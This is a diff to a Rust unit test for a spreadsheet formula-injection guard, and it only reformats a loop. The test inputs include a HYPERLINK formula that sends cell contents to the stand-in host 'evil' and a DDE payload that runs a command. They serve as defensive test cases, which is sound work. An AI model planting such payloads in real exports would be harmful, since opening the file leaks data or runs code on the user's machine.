@@ -38,7 +38,9 @@ mod tests {
 
     #[test]
     fn formula_like_text_is_quoted_and_numbers_are_not() {
-        for risky in ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1"] {
+        for risky in
+            ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1"]
+        {
             assert_eq!(guard(risky), format!("'{risky}"), "{risky:?}");
         }
         for plain in ["-1", "+5", "-2.5", "1234", "郑州市中原区伏牛路小学", ""] {
